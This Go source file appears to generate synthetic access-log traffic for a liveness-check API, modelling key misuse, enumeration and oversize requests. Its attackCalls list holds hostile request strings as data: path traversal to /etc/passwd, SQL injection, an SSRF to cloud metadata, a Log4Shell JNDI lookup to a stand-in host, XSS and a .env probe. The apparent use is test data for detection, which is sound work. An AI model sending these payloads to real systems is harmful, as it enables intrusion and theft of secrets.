package generator

import (
	"strconv"
	"time"
)

// Paths beside those of sessions.
const (
	pathAdmin = "/admin/consumers"
	pathMedia = "/v1/liveness/media/" // and the session
)

// attackCall is what a scanner asks for.
type attackCall struct{ method, path, query, ua string }

// attackCalls are the questions of scanners, one after the other.
func attackCalls() []attackCall {
	return []attackCall{
		{method: "GET", path: "/v1/liveness/..%2f..%2f..%2fetc%2fpasswd"},
		{method: "GET", path: pathSessions, query: "id=1%27%20UNION%20SELECT%20secret%20FROM%20keys--"},
		{method: "POST", path: pathSessions, query: "callback=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"},
		{method: "GET", path: "/", ua: "${jndi:ldap://203.0.113.9:1389/a}"},
		{method: "GET", path: pathSessions, query: "next=%3Cscript%3Ealert(1)%3C%2Fscript%3E"},
		{method: "GET", path: "/.env"},
	}
}

// misuse is a call that is an attack by itself: with a key that is not its caller's, or with one of
// the caller's own that asks for what it should not.
func (g *Generator) misuse(a *actor, n int, at int64, line *Line) bool {
	k := &g.world.keys[a.key]
	c := g.newCall(&a.r)
	c.tls, c.cipher = tls13, cipher13
	c.received, c.sent = 420+a.r.intn(200), 190+a.r.intn(40)
	c.upstream = int64(a.r.lognormal(24, 0.4) * float64(time.Millisecond))
	c.method, c.path = "POST", pathCheck
	switch a.attack.Class {
	case AttackStrings, RevokedKey:
		c.peer, c.client, c.ua, c.upstream = g.world.balancers[n&1], a.addr, a.ua, -1
	case GuessedKey:
		c.peer, c.client, c.ua, c.upstream = g.world.balancers[n&1], a.addr, "Go-http-client/1.1", -1
	case SpreadGuess:
		c.tenant = &g.world.tenants[a.tenant]
		c.peer, c.client, c.upstream = g.world.balancers[n&1], "203.0.113."+strconv.Itoa(130+(a.index*7+n)%110), -1
		c.ua = "okhttp/4.9.3"
	default:
		c.tenant, c.key = &g.world.tenants[a.tenant], k
		c.peer, c.client, c.ua = g.world.balancers[n&1], k.addrs[0], k.ua
		if c.tenant.direct && ownAddr(c.tenant, k.addrs[0]) {
			c.peer, c.client = k.addrs[0], ""
		}
	}
	switch a.attack.Class {
	case AttackStrings:
		s := attackCalls()[n%len(attackCalls())]
		c.method, c.path, c.query, c.status = s.method, s.path, s.query, [...]int{404, 400}[n&1]
		if s.ua != "" {
			c.ua = s.ua
		}
	case RevokedKey:
		c.status, c.keyID, c.authReason = 401, a.keys[0], "revoked"
	case GuessedKey:
		c.status, c.keyID, c.authReason = 401, k.id, "unknown_key"
	case SpreadGuess:
		c.status, c.keyID, c.authReason = 401, a.keys[n%len(a.keys)], "unknown_key"
	case BadInput:
		c.status = [...]int{400, 422}[n&1]
		c.received = 1_100 + a.r.intn(4_000)
	case Oversize:
		c.status, c.upstream = [...]int{413, 413, 415}[n%3], -1
		c.received = 26_000_000 + a.r.intn(9_000_000)
	case ScopeDenied:
		c.method, c.path, c.status, c.authReason, c.upstream = "GET", pathMedia, 403, "scope", -1
	case Enumeration:
		c.method, c.path, c.session = "GET", pathResult, string(appendBase32([]byte("s-"), a.r.next()))
		c.status = [...]int{404, 404, 404, 403}[n&3]
		if c.status == 403 {
			c.authReason, c.upstream = "scope", -1
		}
	case AdminPath:
		c.method, c.path, c.status, c.authReason, c.upstream = "GET", pathAdmin+"/"+strconv.Itoa(n), 403, "scope", -1
	case BulkRead:
		c.method, c.path, c.session, c.status = "GET", pathMedia, string(appendBase32([]byte("s-"), a.r.next())), 200
		c.sent = 160_000 + a.r.intn(60_000)
	}
	return g.render(at, line)
}
